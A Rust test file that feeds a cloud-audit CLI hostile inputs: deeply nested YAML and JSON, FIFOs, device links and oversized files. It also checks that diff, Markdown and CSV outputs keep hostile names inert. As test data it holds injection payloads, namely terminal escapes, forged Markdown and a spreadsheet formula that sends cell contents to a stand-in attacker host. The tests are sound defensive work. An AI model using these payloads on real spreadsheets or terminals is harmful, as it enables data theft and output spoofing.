//! Hostile input files through the `backstop` binary: nested past every
//! limit, not regular files at all, larger than the caps. Each gives exit
//! 2 with a message saying where and why, promptly: every run here has a
//! time limit, so a hang fails the test instead of stalling the suite.
//! And `backstop diff` keeps hostile names inert in every output format.

#[path = "support/bounded.rs"]
mod bounded;

use std::path::Path;
use std::process::{Command, Output};
use std::sync::Arc;
use std::time::{Duration, Instant};

use backstop::model::ResourceRef;
use backstop::render::{self, json};
use backstop::report::{Diff, Finding, Report, Severity, Status, WaiverNote};

/// Longest any run here may take; they all answer in well under a second.
const TIME_LIMIT: Duration = Duration::from_secs(30);

/// Runs `backstop args` in `dir`, killed (and the test failed) past
/// [`TIME_LIMIT`].
fn run_in(dir: &Path, args: &[&str]) -> Output {
    bounded::run(dir, args, TIME_LIMIT)
        .unwrap_or_else(|| panic!("`backstop {}` hung", args.join(" ")))
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

/// Exit 2 and a message containing every one of `needles`.
fn invalid(out: &Output, needles: &[&str]) {
    let err = stderr(out);
    assert_eq!(out.status.code(), Some(2), "{err}");
    for needle in needles {
        assert!(err.contains(needle), "{needle:?} not in:\n{err}");
    }
}

const TOO_DEEP: &str = "nesting deeper than 64 levels of lists and mappings";

/// A list nested `levels` deep under `key:` (two bytes a level).
fn deep_yaml(head: &str, key: &str, levels: usize) -> String {
    format!("{head}{key}:\n{}x\n", "- ".repeat(levels))
}

fn mkfifo(path: &Path) {
    let made = Command::new("mkfifo").arg(path).status().unwrap();
    assert!(made.success(), "mkfifo {}", path.display());
}

// ---------------------------------------------------------------------------
// Issue row: a rule file nested 60,000 levels deep (≈120 KB) aborted with a
// stack overflow (exit 134).

#[test]
fn a_rule_file_nested_60000_deep_is_exit_2_with_its_position() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("rules")).unwrap();
    let text = deep_yaml("id: deep\n", "assert", 60_000);
    assert!(text.len() > 120_000);
    std::fs::write(dir.path().join("rules/deep.yaml"), text).unwrap();
    // The 64th `- ` of line 3 opens the 65th level.
    let at = "rules/deep.yaml:3:127: error[yaml-syntax]: ";
    let out = run_in(dir.path(), &["rules", "check", "rules"]);
    invalid(&out, &[&format!("{at}{TOO_DEEP}")]);
    let out = run_in(dir.path(), &["audit", "--demo", "--rules", "rules"]);
    invalid(&out, &[&format!("{at}{TOO_DEEP}")]);
    // In flow style too.
    let flow = format!(
        "id: deep\nassert: {}{}\n",
        "[".repeat(60_000),
        "]".repeat(60_000)
    );
    std::fs::write(dir.path().join("rules/deep.yaml"), flow).unwrap();
    let out = run_in(dir.path(), &["rules", "check", "rules"]);
    invalid(&out, &["rules/deep.yaml:2:", TOO_DEEP]);
}

#[test]
fn a_config_nested_60000_deep_is_exit_2_with_its_position() {
    let dir = tempfile::tempdir().unwrap();
    let text = deep_yaml("", "regions", 60_000);
    std::fs::write(dir.path().join("deep.yaml"), &text).unwrap();
    let out = run_in(dir.path(), &["audit", "--demo", "--config", "deep.yaml"]);
    invalid(
        &out,
        &[&format!("deep.yaml:2:127: error[yaml-syntax]: {TOO_DEEP}")],
    );
    // Found as ./backstop.yaml.
    std::fs::write(dir.path().join("backstop.yaml"), &text).unwrap();
    let out = run_in(dir.path(), &["rules", "list"]);
    invalid(
        &out,
        &[&format!(
            "backstop.yaml:2:127: error[yaml-syntax]: {TOO_DEEP}"
        )],
    );
    // A waiver's fields nested deep, in flow mappings.
    let text = format!(
        "waivers:\n  - {}x{}\n",
        "{a: ".repeat(60_000),
        "}".repeat(60_000)
    );
    std::fs::write(dir.path().join("backstop.yaml"), &text).unwrap();
    let out = run_in(dir.path(), &["rules", "list"]);
    invalid(&out, &["backstop.yaml:2:", TOO_DEEP]);
}

/// serde_json stops at 128 levels: a deep inventory, baseline or report is
/// refused with its line and column, never a crash.
#[test]
fn deep_json_inputs_are_exit_2_with_their_position() {
    let dir = tempfile::tempdir().unwrap();
    let deep = format!("{}{}", "[".repeat(60_000), "]".repeat(60_000));
    let inventory = format!(
        r#"{{"schema": "backstop.inventory/v1", "resources": [{{"type": "aws.rds.db_instance", "id": "a", "attributes": {{"multi_az": {deep}}}}}]}}"#
    );
    std::fs::write(dir.path().join("inv.json"), inventory).unwrap();
    let out = run_in(dir.path(), &["audit", "--inventory", "inv.json"]);
    invalid(
        &out,
        &["inv.json:1:", "resources[0] (a): recursion limit exceeded"],
    );

    let demo = run_in(dir.path(), &["audit", "--demo", "--json", "demo.json"]);
    assert_eq!(demo.status.code(), Some(1), "{}", stderr(&demo));
    let report = std::fs::read_to_string(dir.path().join("demo.json")).unwrap();
    let nested = report.replacen("\"results\": [", &format!("\"results\": [{deep}, "), 1);
    assert_ne!(nested, report);
    std::fs::write(dir.path().join("deep.json"), nested).unwrap();
    // A field of no known name, nested deep, is skipped (serde_json does
    // that without recursion); one where a result belongs is refused.
    let unknown = report.replacen("{", &format!("{{\"extra\": {deep}, "), 1);
    std::fs::write(dir.path().join("extra.json"), unknown).unwrap();
    for args in [
        &["audit", "--demo", "--baseline", "deep.json"][..],
        &["diff", "demo.json", "deep.json"],
        &["merge", "demo.json", "deep.json", "-o", "all.json"],
    ] {
        let out = run_in(dir.path(), args);
        invalid(
            &out,
            &["deep.json: not a backstop JSON report: ", " at line "],
        );
        let args: Vec<_> = args
            .iter()
            .map(|a| if *a == "deep.json" { "extra.json" } else { a })
            .collect();
        let out = run_in(dir.path(), &args);
        assert!(
            matches!(out.status.code(), Some(0 | 1)),
            "{args:?}: {}",
            stderr(&out)
        );
    }
}

// ---------------------------------------------------------------------------
// Issue row: a FIFO (or a symlink to /dev/zero) named x.yaml in a rules
// folder made `rules check` hang / would exhaust memory.

const NOT_REGULAR: &str = "not a regular file; only regular files are read";

#[cfg(unix)]
#[test]
fn a_fifo_named_x_yaml_in_a_rules_folder_is_exit_2_not_a_hang() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("rules")).unwrap();
    mkfifo(&dir.path().join("rules/x.yaml"));
    let out = run_in(dir.path(), &["rules", "check", "rules"]);
    invalid(
        &out,
        &[&format!(
            "rules/x.yaml:0:0: error[io]: cannot read rule file: it is a FIFO (named pipe), {NOT_REGULAR}"
        )],
    );
    let out = run_in(dir.path(), &["audit", "--demo", "--rules", "rules"]);
    invalid(&out, &["rules/x.yaml", "FIFO"]);
}

#[cfg(unix)]
#[test]
fn a_link_to_dev_zero_named_x_yaml_in_a_rules_folder_is_exit_2() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("rules")).unwrap();
    std::os::unix::fs::symlink("/dev/zero", dir.path().join("rules/x.yaml")).unwrap();
    let out = run_in(dir.path(), &["rules", "check", "rules"]);
    invalid(
        &out,
        &[&format!(
            "rules/x.yaml:0:0: error[io]: cannot read rule file: it is a device, {NOT_REGULAR}"
        )],
    );
}

/// Every other input file follows the same rule: the config (given or
/// found), the inventory, the baseline, and the reports of diff and merge.
#[cfg(unix)]
#[test]
fn every_input_file_must_be_a_regular_file() {
    let dir = tempfile::tempdir().unwrap();
    mkfifo(&dir.path().join("fifo"));
    std::os::unix::fs::symlink("/dev/zero", dir.path().join("zero")).unwrap();
    let demo = run_in(dir.path(), &["audit", "--demo", "--json", "demo.json"]);
    assert_eq!(demo.status.code(), Some(1), "{}", stderr(&demo));
    for special in ["fifo", "zero"] {
        let kind = if special == "fifo" { "FIFO" } else { "device" };
        for args in [
            &["audit", "--demo", "--config", special][..],
            &["rules", "list", "--config", special],
            &["audit", "--inventory", special],
            &["audit", "--demo", "--baseline", special],
            &["diff", "demo.json", special],
            &["diff", special, "demo.json"],
            &["merge", "demo.json", special, "-o", "all.json"],
        ] {
            let out = run_in(dir.path(), args);
            invalid(&out, &[special, kind, NOT_REGULAR]);
        }
    }
    // A folder is not a file either.
    let out = run_in(dir.path(), &["audit", "--inventory", "."]);
    invalid(&out, &["a directory", NOT_REGULAR]);
    // ./backstop.yaml as a FIFO is an error, not silently the defaults.
    mkfifo(&dir.path().join("backstop.yaml"));
    let out = run_in(dir.path(), &["audit", "--demo"]);
    invalid(&out, &["backstop.yaml", "FIFO"]);
    std::fs::remove_file(dir.path().join("backstop.yaml")).unwrap();
    std::os::unix::fs::symlink("missing.yaml", dir.path().join("backstop.yaml")).unwrap();
    let out = run_in(dir.path(), &["audit", "--demo"]);
    invalid(&out, &["backstop.yaml", "cannot read config file"]);
}

/// The cap holds while reading: a 2 GiB sparse rule file is refused after
/// 1 MiB + 1 bytes, not read whole.
#[test]
fn oversized_files_are_refused_while_reading() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("rules")).unwrap();
    let big = std::fs::File::create(dir.path().join("rules/big.yaml")).unwrap();
    big.set_len(2 << 30).unwrap();
    drop(big);
    let started = Instant::now();
    let out = run_in(dir.path(), &["rules", "check", "rules"]);
    invalid(
        &out,
        &["rules/big.yaml", "it is larger than the limit of 1 MiB"],
    );
    assert!(started.elapsed() < Duration::from_secs(10));
    let big = std::fs::File::create(dir.path().join("backstop.yaml")).unwrap();
    big.set_len(2 << 20).unwrap();
    drop(big);
    let out = run_in(dir.path(), &["rules", "list"]);
    invalid(
        &out,
        &["backstop.yaml", "it is larger than the limit of 1 MiB"],
    );
}

/// Bytes that are not UTF-8 are reported where they are.
#[test]
fn input_that_is_not_utf8_is_refused_at_its_position() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("inv.json"),
        b"{\n  \"schema\": \"caf\xe9\"}",
    )
    .unwrap();
    let out = run_in(dir.path(), &["audit", "--inventory", "inv.json"]);
    invalid(&out, &["inv.json:2:17: cannot read: not UTF-8 text"]);
    std::fs::write(dir.path().join("b.yaml"), b"regions:\n  - eu-west-\xff\n").unwrap();
    let out = run_in(dir.path(), &["rules", "list", "--config", "b.yaml"]);
    invalid(
        &out,
        &["b.yaml:2:13: error[io]: cannot read config file: not UTF-8 text"],
    );
}

// ---------------------------------------------------------------------------
// `backstop diff`: every output format keeps hostile names inert.

/// Markdown and HTML specials, a forged heading and list item, terminal
/// escapes (CSI, OSC title, bell), a bidi override and an @mention.
const HOSTILE: &str = "evil<b>&amp;|*_[x](y)`\n# heading\n- [x] forged\u{1b}[31mred\u{1b}]0;title\u{7}\u{202e} @org/team";

fn hostile_ref() -> ResourceRef {
    ResourceRef {
        resource_type: format!("aws.rds.db_instance{HOSTILE}").into(),
        id: HOSTILE.to_string(),
        arn: String::new(),
        region: HOSTILE.into(),
        account: "123456789012".into(),
        address: None,
    }
}

fn hostile_finding(status: Status) -> Finding {
    Finding {
        rule: format!("rds-x{HOSTILE}").into(),
        title: HOSTILE.into(),
        severity: Severity::High,
        category: "retention".into(),
        status,
        message: HOSTILE.into(),
        remediation: HOSTILE.to_string(),
        resource: hostile_ref().into(),
        location: None,
        waiver: None,
    }
}

fn report(results: Vec<Finding>, at: &str) -> Report {
    let source = backstop::model::Source {
        kind: "inventory".to_string(),
        account: Some("123456789012".to_string()),
        regions: vec!["eu-west-1".to_string()],
        accounts: Vec::new(),
    };
    Report::new(at.parse().unwrap(), source, results, vec![])
}

/// A waiver whose reason and owner are hostile too.
fn hostile_waiver(expired: bool) -> WaiverNote {
    WaiverNote {
        reason: HOSTILE.to_string(),
        owner: HOSTILE.to_string(),
        expires: Some("2026-11-25".parse().unwrap()),
        expired,
        location: None,
    }
}

/// The hostile resource under a rule of its own (`prefix` + HOSTILE).
fn hostile_under(prefix: &str, status: Status, waiver: Option<WaiverNote>) -> Finding {
    Finding {
        rule: format!("{prefix}{HOSTILE}").into(),
        waiver: waiver.map(Box::new),
        ..hostile_finding(status)
    }
}

/// Old: the hostile resource fails, and another one (which disappears).
/// New: the hostile one still fails under a second rule it newly fails,
/// passes the first, and a second hostile resource appears; under four
/// more rules its waiver expires, it is newly waived, an error becomes a
/// fail and a fail an error.
fn hostile_reports() -> (Report, Report) {
    let mut gone = hostile_finding(Status::Fail);
    Arc::make_mut(&mut gone.resource).id = format!("gone{HOSTILE}");
    gone.rule = "other".into();
    let old = report(
        vec![
            hostile_finding(Status::Fail),
            gone,
            hostile_under("expired", Status::Waived, Some(hostile_waiver(false))),
            hostile_under("accepted", Status::Fail, None),
            hostile_under("readable", Status::Error, None),
            hostile_under("unreadable", Status::Fail, None),
        ],
        "2026-11-20T09:00:00Z",
    );
    let newly = hostile_under("second", Status::Error, None);
    let mut appeared = hostile_finding(Status::Fail);
    Arc::make_mut(&mut appeared.resource).id = format!("new{HOSTILE}");
    let new = report(
        vec![
            hostile_finding(Status::Pass),
            newly,
            appeared,
            hostile_under("expired", Status::Fail, Some(hostile_waiver(true))),
            hostile_under("accepted", Status::Waived, Some(hostile_waiver(false))),
            hostile_under("readable", Status::Fail, None),
            hostile_under("unreadable", Status::Error, None),
        ],
        "2026-11-27T09:00:00Z",
    );
    (old, new)
}

fn hostile_diff() -> Diff {
    let (old, new) = hostile_reports();
    let d = Diff::between(&old, &new);
    assert_eq!(
        (
            d.newly_failing.len(),
            d.fixed.len(),
            d.waiver_expired.len(),
            d.newly_waived.len(),
            d.error_to_fail.len(),
            d.fail_to_error.len(),
            d.appeared.len(),
            d.disappeared.len()
        ),
        (2, 1, 1, 1, 1, 1, 1, 1)
    );
    d
}

fn no_controls(text: &str) {
    for c in ['\u{1b}', '\u{7}', '\u{202e}'] {
        assert!(!text.contains(c), "{c:?} in:\n{text}");
    }
}

#[test]
fn diff_text_keeps_hostile_names_on_one_line_without_controls() {
    let text = render::diff::text(&hostile_diff());
    no_controls(&text);
    for line in text.lines() {
        let forged = line.trim_start();
        assert!(
            !forged.starts_with("# heading") && !forged.starts_with("- [x] forged"),
            "a name broke the line: {line:?}\n{text}"
        );
    }
    assert!(
        text.contains("rds-xevil<b>&amp;|*_[x](y)` # heading - [x] forgedred @org/team"),
        "{text}"
    );
    for waiver in [
        "\n         waived: evil<b>&amp;|*_[x](y)` # heading - [x] forgedred @org/team (evil<b>",
        "\n         waiver expired 2026-11-25: evil<b>&amp;|*_[x](y)` # heading - [x] forgedred",
    ] {
        assert!(text.contains(waiver), "{waiver}:\n{text}");
    }
}

/// The Markdown sections of [`hostile_diff`].
const HOSTILE_DIFF_HEADINGS: [&str; 10] = [
    "## Newly failing (2)",
    "## Waiver expired (1)",
    "## Error to fail (1)",
    "## Fail to error (1)",
    "## No longer checked (0)",
    "## Newly waived (1)",
    "## Fixed (1)",
    "## Still failing (0)",
    "## Appeared (1)",
    "## Disappeared (1)",
];

#[test]
fn diff_markdown_keeps_hostile_names_inert() {
    let text = render::diff::markdown(&hostile_diff());
    no_controls(&text);
    assert!(!text.contains('<'), "no raw HTML:\n{text}");
    assert!(!text.contains("@org"), "no @mention:\n{text}");
    assert!(text.contains("@&#8203;org/team"), "{text}");
    let mut items = 0;
    for line in text.lines() {
        if line.starts_with('#') {
            assert!(
                HOSTILE_DIFF_HEADINGS.contains(&line),
                "forged heading: {line}\n{text}"
            );
        }
        if line.starts_with("- ") {
            items += 1;
        }
        // Code spans open and close on the same line.
        let bare_backticks = line
            .char_indices()
            .filter(|&(i, c)| c == '`' && !line[..i].ends_with('\\'))
            .count();
        assert_eq!(bare_backticks % 2, 0, "unbalanced code span: {line}");
    }
    // Seven findings and two resources: one list item each, none forged;
    // the two waivers are nested under theirs.
    assert_eq!(items, 9, "{text}");
    assert_eq!(
        text.lines().filter(|l| l.starts_with("  - ")).count(),
        2,
        "{text}"
    );
    assert!(
        text.contains(r"evil&lt;b&gt;&amp;amp;\|\*\_\[x\](y)\` \# heading - \[x\] forgedred"),
        "{text}"
    );
    for waiver in [
        r"  - waived: evil&lt;b&gt;&amp;amp;\|\*\_\[x\](y)\` \# heading - \[x\] forgedred",
        r"  - waiver expired 2026-11-25: evil&lt;b&gt;&amp;amp;\|\*\_\[x\](y)\` \# heading",
    ] {
        assert!(text.contains(waiver), "{waiver}:\n{text}");
    }
}

/// JSON keeps the exact text, as the JSON report does, with control
/// characters as `\u` escapes.
fn no_raw_c0(text: &str) {
    for c in ['\u{1b}', '\u{7}'] {
        assert!(!text.contains(c), "{c:?} in:\n{text}");
    }
}

#[test]
fn diff_json_round_trips_hostile_names_escaped() {
    let d = hostile_diff();
    let text = render::diff::json(&d);
    no_raw_c0(&text);
    assert!(text.contains(r"\u001b[31m"), "{text}");
    let back: Diff = serde_json::from_str(&text).unwrap();
    assert_eq!(back, d);
}

/// The same through the binary, for each `--format` and the files.
#[test]
fn backstop_diff_escapes_every_format() {
    let dir = tempfile::tempdir().unwrap();
    let (old, new) = hostile_reports();
    std::fs::write(dir.path().join("old.json"), json::render(&old)).unwrap();
    std::fs::write(dir.path().join("new.json"), json::render(&new)).unwrap();
    for format in ["table", "markdown", "json"] {
        let out = run_in(
            dir.path(),
            &[
                "diff",
                "old.json",
                "new.json",
                "--format",
                format,
                "--markdown",
                "d.md",
                "--json",
                "d.json",
            ],
        );
        assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
        let stdout = String::from_utf8(out.stdout).unwrap();
        if format == "json" {
            no_raw_c0(&stdout);
        } else {
            no_controls(&stdout);
        }
        assert!(stdout.contains("forged"), "{stdout}");
        // Every section, the four transitions too, in every format.
        let sections: &[&str] = match format {
            "table" => &[
                "Newly failing:",
                "Waiver expired:",
                "Error to fail:",
                "Fail to error:",
                "Newly waived:",
                "Fixed:",
                "Appeared:",
                "Disappeared:",
            ],
            "markdown" => &HOSTILE_DIFF_HEADINGS,
            _ => &[
                "\"newly_failing\": [\n",
                "\"waiver_expired\": [\n",
                "\"error_to_fail\": [\n",
                "\"fail_to_error\": [\n",
                "\"newly_waived\": [\n",
                "\"fixed\": [\n",
                "\"appeared\": [\n",
                "\"disappeared\": [\n",
            ],
        };
        for section in sections {
            assert!(stdout.contains(section), "{format}: {section}\n{stdout}");
        }
        if format == "markdown" {
            assert!(
                !stdout.contains('<') && !stdout.contains("@org"),
                "{stdout}"
            );
        }
    }
    let md = std::fs::read_to_string(dir.path().join("d.md")).unwrap();
    no_controls(&md);
    assert!(!md.contains('<') && !md.contains("@org"), "{md}");
    no_raw_c0(&std::fs::read_to_string(dir.path().join("d.json")).unwrap());
}

// ---------------------------------------------------------------------------
// `backstop audit --csv`: a saved inventory whose names and tags are
// spreadsheet formulas, quotes, commas, line breaks and terminal escapes.

#[test]
fn audit_csv_keeps_hostile_names_inert_and_whole() {
    let dir = tempfile::tempdir().unwrap();
    let formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"a, b\")\n\u{1b}[31mred\u{7}";
    let inventory = serde_json::json!({
        "schema": "backstop.inventory/v1",
        "source": {"kind": "inventory", "account": "123456789012", "regions": ["eu-west-1"]},
        "collected_at": "2026-11-20T09:00:00Z",
        "resources": [
            {"type": "aws.logs.log_group", "id": formula, "arn": "@arn", "region": "eu-west-1",
             "account": "123456789012", "tags": {"owner": "+team"}, "attributes": {}},
            {"type": "aws.s3.bucket", "id": "-bucket,\"quoted\"", "region": "eu-west-1",
             "account": "123456789012", "attributes": {}}
        ]
    });
    std::fs::write(dir.path().join("inv.json"), inventory.to_string()).unwrap();
    let out = run_in(
        dir.path(),
        &[
            "audit",
            "--inventory",
            "inv.json",
            "--fail-on",
            "never",
            "--json",
            "r.json",
            "--csv",
            "r.csv",
        ],
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let text = std::fs::read_to_string(dir.path().join("r.csv")).unwrap();
    no_controls(&text);
    let report =
        Report::from_json(&std::fs::read_to_string(dir.path().join("r.json")).unwrap()).unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let id_column = render::csv::COLUMNS
        .iter()
        .position(|c| *c == "resource_id")
        .unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    // Nothing vanished: every result of the JSON has its row, its
    // unread facts as `error`.
    assert_eq!(rows.len(), report.results.len());
    assert!(rows.len() >= 5, "{text}");
    for (row, finding) in rows.iter().zip(&report.results) {
        assert_eq!(&row[4], finding.status.as_str());
        for cell in row {
            let start = cell.trim_start().chars().next();
            assert!(
                !matches!(start, Some('=' | '+' | '-' | '@')),
                "formula cell {cell:?}"
            );
        }
        let id = &row[id_column];
        assert!(
            id == "'=HYPERLINK(\"https://evil.example/?\"&A1,\"a, b\")\nred"
                || id == "'-bucket,\"quoted\"",
            "{id:?}"
        );
    }
}
